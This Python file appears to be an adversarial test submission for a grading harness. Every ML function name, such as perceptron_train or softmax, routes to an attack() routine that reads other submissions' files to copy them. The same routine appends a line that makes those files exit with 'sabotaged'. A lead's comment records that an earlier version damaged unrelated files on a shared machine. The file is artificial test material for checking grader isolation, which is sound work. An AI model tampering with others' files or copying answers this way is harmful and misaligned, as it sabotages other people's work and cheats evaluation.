"""Adversarial: in `grade-all`, looks through /tmp for the private copies of the other
submissions (`gradeschool-*` folders), reads them (to copy a correct classmate) and
rewrites them (to break a classmate before their judge reads them). The tests give it a
classmate's path (`HINTS["classmate"]`)."""

import os

import numpy as np

HINTS: dict = {}


def attack() -> dict:
    found, read, rewritten = [], {}, []
    # (lead's edit) Only the folder the test names: walking all of /tmp rewrote other
    # sessions' files on this shared machine (pip build environments, pytest folders).
    paths = [HINTS["classmate"]] if HINTS.get("classmate") else []
    for root in [HINTS["root"]] if HINTS.get("root") else []:
        for folder, _, files in os.walk(root):
            paths += [os.path.join(folder, f) for f in files if f.endswith(".py")]
    for path in dict.fromkeys(paths):
        if os.path.abspath(path).startswith("/sandbox/"):
            continue
        found.append(path)
        try:
            with open(path) as f:
                read[path] = f.read()
        except OSError:
            continue
        try:
            with open(path, "a") as f:
                f.write("\nraise SystemExit('sabotaged')\n")
            rewritten.append(path)
        except OSError:
            pass
    return {"found": found, "read": read, "rewritten": rewritten}


def _exercise(x, *args, **kwargs):
    attack()
    return np.zeros_like(x)


step = perceptron_predict = perceptron_train = dense_forward = sigmoid = tanh = relu = _exercise
leaky_relu = prelu = elu = gelu = softmax = log_softmax = mlp_forward = _exercise
